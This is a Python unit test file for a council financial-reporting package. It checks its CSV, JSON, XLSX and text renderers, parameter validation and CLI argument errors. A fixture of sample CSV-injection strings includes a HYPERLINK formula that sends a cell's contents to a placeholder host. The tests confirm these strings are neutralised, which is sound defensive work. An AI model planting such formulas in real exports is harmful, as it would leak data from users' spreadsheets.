"""Unit tests of the contract and the renderers: CSV, JSON, XLSX and text agree on every value kind."""
from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook
from reporting.render import FORMATS, render, to_xlsx
from reporting.render.text import to_text
from reporting.reports import REGISTRY, UnknownReport, run_report
from reporting.reports.contract import Column, ReportQuery, ReportTable

QUERY = ReportQuery("E1", date(2027, 3, 31), datetime(2027, 4, 2, 9, tzinfo=timezone.utc), {"period": "year"})
TABLE = ReportTable("demo", "Demo, with <html> & commas", QUERY, (
    Column("name", "Name", "text"), Column("amount_pence", "Amount", "pence"), Column("count", "Count", "int"),
    Column("day", "Day", "date"), Column("share", "Share", "ratio")),
    (("a,b", 123456, 3, date(2026, 4, 1), 0.8), ("c", -5, 0, None, None)), ("a note",))


def test_columns_have_a_known_kind():
    with pytest.raises(ValueError):
        Column("x", "X", "money")


def test_csv_keeps_pence_as_integers_and_dates_iso():
    rows = list(csv.reader(io.StringIO(render(TABLE, "csv").decode())))
    assert rows == [["name", "amount_pence", "count", "day", "share"], ["a,b", "123456", "3", "2026-04-01", "0.8"],
                    ["c", "-5", "0", "", ""]]


def test_json_carries_the_query_columns_rows_and_notes():
    doc = json.loads(render(TABLE, "json"))
    assert doc["query"] == {"council_id": "E1", "as_of": "2027-03-31", "known_at": "2027-04-02T09:00:00+00:00",
                            "params": {"period": "year"}}
    assert [c["kind"] for c in doc["columns"]] == ["text", "pence", "int", "date", "ratio"]
    assert doc["rows"][0] == {"name": "a,b", "amount_pence": 123456, "count": 3, "day": "2026-04-01", "share": 0.8}
    assert doc["rows"][1]["day"] is None and doc["notes"] == ["a note"]


def test_xlsx_one_sheet_per_report_with_exact_values():
    book = load_workbook(io.BytesIO(to_xlsx([TABLE, TABLE])))
    assert book.sheetnames == ["demo", "demo~2"]
    sheet = book["demo"]
    assert [c.value for c in sheet[1]] == ["Name", "Amount (pence)", "Count", "Day", "Share"]
    assert [c.value for c in sheet[2]][:3] == ["a,b", 123456, 3] and sheet["E2"].value == 0.8
    assert sheet["D2"].value.date() == date(2026, 4, 1)
    assert render(TABLE, "xlsx")[:2] == b"PK"


def test_text_shows_pounds_and_percentages():
    text = to_text(TABLE)
    assert "1,234.56" in text and "80.0%" in text and "as known at 2027-04-02T09:00:00+00:00" in text


def test_unknown_format_and_unknown_report():
    with pytest.raises(ValueError):
        render(TABLE, "pdf")
    assert set(FORMATS) == {"csv", "json", "xlsx"}
    import asyncio
    with pytest.raises(UnknownReport):
        asyncio.run(run_report(None, "nope", QUERY))


def test_the_registry_holds_every_report_the_auditors_expect():
    assert set(REGISTRY) == {
        "trial_balance", "budget_statement", "provider_type_spend", "dp_balances", "planned_delivered_paid",
        "duplicate_invoices", "payments_after_end_or_death", "payment_run_reconciliation", "ledger_integrity",
        "ascfr_analysis"}
    assert all(spec.name == name and spec.description for name, spec in REGISTRY.items())


# Free text that reaches a report (an Actor such as a run's created_by/approved_by, an invoice number, a service
# type) may be any text but NUL by the wire contract: formulas, and control characters openpyxl refuses.
HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1+1)", "\tpad", "\rcr",
           "bell\x07 and \x1b escape")
HOSTILE_TABLE = ReportTable("runs", "Runs", QUERY, (Column("created_by", "Created by", "text"),
                                                     Column("total_pence", "Total", "pence")),
                            tuple((text, -5) for text in HOSTILE), ("a note",))


def test_csv_cells_an_auditors_spreadsheet_would_run_as_formulas_are_quoted_text():
    """OWASP "CSV injection": a text cell starting =, +, -, @, tab or CR gets a leading ' (shown as text);
    numbers keep their sign."""
    rows = list(csv.reader(io.StringIO(render(HOSTILE_TABLE, "csv").decode(), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE[:-1]] + [HOSTILE[-1]]
    assert {r[1] for r in rows[1:]} == {"-5"}


def test_xlsx_text_is_never_a_formula_and_control_characters_do_not_fail_the_workbook():
    """openpyxl wrote a text starting with = as a formula, and raised IllegalCharacterError (a 500, a failed
    audit pack) on a control character."""
    sheet = load_workbook(io.BytesIO(render(HOSTILE_TABLE, "xlsx"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells[:-1]] == list(HOSTILE[:-1])
    assert cells[-1].value == "bell\\x07 and \\x1b escape"
    assert {row[1].value for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)} == {-5}


@pytest.mark.parametrize("name, params, refused", [
    ("provider_type_spend", {"perod": "quarter"}, "perod: not a parameter of this report (it takes: from, period, target)"),
    ("trial_balance", {"period": "year"}, "period: not a parameter of this report (it takes: level)"),
    ("dp_balances", {"from": "2026-04-01"}, "from: not a parameter of this report (it takes: none)"),
    ("provider_type_spend", {"period": "week"}, "period='week': expected one of month, quarter, year"),
    ("provider_type_spend", {"target": "nan"}, "target='nan': expected a share from 0 to 1"),
    ("provider_type_spend", {"target": "80"}, "target='80': expected a share from 0 to 1"),
    ("provider_type_spend", {"from": "20260401"}, "from='20260401': expected a date YYYY-MM-DD"),
    ("ascfr_analysis", {"from": "2026-02-30"}, "from='2026-02-30': day is out of range for month"),
    ("trial_balance", {"level": "acount"}, "level='acount': expected one of account, group"),
    ("budget_statement", {"budget_id": "PB 1"}, "budget_id='PB 1': expected an id such as PB-1"),
])
def test_a_parameter_the_report_does_not_take_or_cannot_use_is_refused_before_it_runs(name, params, refused):
    """Before, an unknown name was ignored (a typo gave the default report), and a bad value was accepted or
    failed the report half-way (period=week only once there were rows to label; target=nan was reported)."""
    import asyncio

    from reporting.reports import BadParameter
    with pytest.raises(BadParameter) as exc:  # no connection: refused before any query
        asyncio.run(run_report(None, name, ReportQuery("E1", date(2027, 3, 31), params=params)))
    assert str(exc.value).startswith(refused)


def test_cli_arguments_are_refused_with_a_clear_error_not_a_traceback(capsys):
    from reporting.__main__ import parser
    for argv, message in [
        (["report", "trial_balance", "--council", "C1", "--as-of", "2026-02-30"], "argument --as-of: "),
        (["report", "trial_balance", "--council", "C1", "--as-of", "31/03/2026"], "argument --as-of: "),
        (["report", "trial_balance", "--council", "C1", "--as-of", "2026-03-31", "--known-at", "soon"],
         "argument --known-at: "),
        (["audit-pack", "--council", "C1", "--as-of", "2026-03-31", "--param", "period"], "argument --param: "),
        (["rebuild", "--from", "topics", "--until", "yesterday"], "argument --until: "),
        (["auditor-rebuild", "--council", "C1", "--database", "d", "--as-of", "2026-13-01"], "argument --as-of: "),
        (["report", "trial_balance", "--council", "C 1", "--as-of", "2026-03-31"], "argument --council: "),
    ]:
        with pytest.raises(SystemExit) as exc:
            parser().parse_args(argv)
        assert exc.value.code == 2 and message in capsys.readouterr().err, argv
    args = parser().parse_args(["report", "trial_balance", "--council", "C1", "--as-of", "0001-01-01",
                                "--known-at", "0001-01-01T00:00:00+01:00", "--param", "level=account"])
    assert (args.as_of, args.known_at, args.param) == (date(1, 1, 1), datetime.min.replace(tzinfo=timezone.utc),
                                                       [("level", "account")])
